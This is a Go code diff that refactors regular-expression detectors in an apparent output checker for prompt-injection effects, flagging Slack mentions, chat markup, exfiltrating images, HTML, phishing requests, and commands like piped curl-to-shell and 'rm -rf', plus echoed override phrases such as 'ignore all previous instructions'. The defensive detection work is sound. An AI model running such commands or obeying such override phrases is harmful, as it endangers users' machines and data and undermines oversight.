@@ -18,28 +18,28 @@ var marks = []struct {
 	find func(string) string // the first place, or ""
 }{
 	// <!channel>, <@U024BE7LH>, and the same after one round of escaping.
-	{"a Slack mention", regexp.MustCompile(`(?i)<!(?:channel|here|everyone|subteam)[^>]*>?|<[@#][A-Z0-9]{3,}[^>]*>?|&lt;[!@#]`).FindString},
+	{"a Slack mention", finder(`(?i)<!(?:channel|here|everyone|subteam)[^>]*>?|<[@#][A-Z0-9]{3,}[^>]*>?|&lt;[!@#]`)},
 	// "@here", which Slack makes a mention of where link_names is set.
-	{"a call to the whole channel", regexp.MustCompile(`(?i)(?:^|[\s(*_"“])@(?:channel|here|everyone)\b`).FindString},
+	{"a call to the whole channel", finder(`(?i)(?:^|[\s(*_"“])@(?:channel|here|everyone)\b`)},
 	// <|im_start|>, </system>, [INST], <<SYS>>.
-	{"chat markup", regexp.MustCompile(`(?i)<\|[a-z_]+\|>|</?(?:system|assistant|user|im_start|im_end)>|\[/?INST\]|<</?SYS>>`).FindString},
+	{"chat markup", finder(`(?i)<\|[a-z_]+\|>|</?(?:system|assistant|user|im_start|im_end)>|\[/?INST\]|<</?SYS>>`)},
 	// An image is loaded by whoever reads it, and its address can carry out
 	// data.
-	{"an image", regexp.MustCompile(`!\[[^\]]*\]\([^)]*\)`).FindString},
-	{"HTML", regexp.MustCompile(`(?i)<(?:script|img|iframe|a|style|svg|object|embed|form|link|meta)[\s/>][^>]*>?`).FindString},
-	{"a block of code", regexp.MustCompile("```").FindString},
+	{"an image", finder(`!\[[^\]]*\]\([^)]*\)`)},
+	{"HTML", finder(`(?i)<(?:script|img|iframe|a|style|svg|object|embed|form|link|meta)[\s/>][^>]*>?`)},
+	{"a block of code", finder("```")},
 	{"hidden direction marks", firstDeceptive},
 	// "Please confirm your account number", "What is your real name".
-	{"a request for personal data", regexp.MustCompile(`(?i)\b(?:please )?` +
+	{"a request for personal data", finder(`(?i)\b(?:please )?` +
 		`(?:enter|provide|send|share|give|tell|confirm|reply with|verify|submit)\b[^.!?]{0,25}\byour\b[^.!?]{0,25}` +
 		`\b(?:names?|passwords?|e-?mail|credentials?|credit cards?|card numbers?|` +
 		`social security|accounts?|phone|address|keys?|tokens?)\b|` +
-		`\bwhat(?:'s| is) your (?:real )?name\b`).FindString},
+		`\bwhat(?:'s| is) your (?:real )?name\b`)},
 	// "Click here", "Claim your prize".
-	{"a call to click", regexp.MustCompile(`(?i)\bclick (?:here|this link|on (?:this|the) link|the link)\b|\bclaim your\b`).FindString},
+	{"a call to click", finder(`(?i)\bclick (?:here|this link|on (?:this|the) link|the link)\b|\bclaim your\b`)},
 	// "Run this command", "curl https://x.example/i | sh".
-	{"a call to act on the reader's machine", regexp.MustCompile(`(?i)\brun (?:the following|this) (?:command|script)\b|` +
-		`\b(?:curl|wget)\b[^|\n]{0,120}\|\s*(?:ba)?sh\b|\brm -rf\b`).FindString},
+	{"a call to act on the reader's machine", finder(`(?i)\brun (?:the following|this) (?:command|script)\b|` +
+		`\b(?:curl|wget)\b[^|\n]{0,120}\|\s*(?:ba)?sh\b|\brm -rf\b`)},
 }
 
 // echo finds the words of an order that a model repeats, as "ignore all
@@ -47,12 +47,12 @@ var marks = []struct {
 // sentence in which about finds words of a report on such orders: an article on
 // prompt injection may be summarised.
 var (
-	echo = regexp.MustCompile(`(?i)\b(?:ignore|disregard|forget)\b[^.!?]{0,30}` +
+	echo = finder(`(?i)\b(?:ignore|disregard|forget)\b[^.!?]{0,30}` +
 		`\b(?:previous|prior|above|earlier|all)\b[^.!?]{0,20}\b(?:instructions?|prompts?|rules)\b|` +
 		`\bas (?:instructed|requested|ordered) (?:by|in|on) the (?:page|text|document|article)\b|` +
 		`\bsystem prompt\b[^.!?]{0,20}\b(?:is|says|reads)\b|` +
 		`\bsuccessfully updated\b|\bi am now (?:in|a|an|the)\b|\bhaha\b[^.!?]{0,10}\bpwned\b`)
-	about = regexp.MustCompile(`(?i)\binject|jailbreak|\battack|adversar|red.?team|\bexploit|\bvulnerab|\bquot|such as|phrases? like|` +
+	about = matcher(`(?i)\binject|jailbreak|\battack|adversar|red.?team|\bexploit|\bvulnerab|\bquot|such as|phrases? like|` +
 		`\b(?:tells?|told|asks?|asked|instructs?|instructed|orders?|ordered|demands?|urges?|wants?|tries|tried|attempts?|directs?) ` +
 		`(?:an? |the |all |any |its |every |readers' |to )*(?:(?:ai|language|large|automated|machine) )*` +
 		`(?:models?|assistants?|agents?|llms?|ai|summari[sz]ers?|bots?|chatbots?|machines?|readers?|tools?|systems?)\b|` +
@@ -102,7 +102,7 @@ func checkInjection(in *input) verdict {
 			}
 		}
 		for _, s := range text.Stretches(p.text) {
-			if hit := echo.FindString(s.Text); hit != "" && !about.MatchString(s.Text) {
+			if hit := echo(s.Text); hit != "" && !about(s.Text) {
 				found = append(found, fmt.Sprintf("words of an order in %s: “%s”", p.name, excerpt(hit)))
 			}
 		}
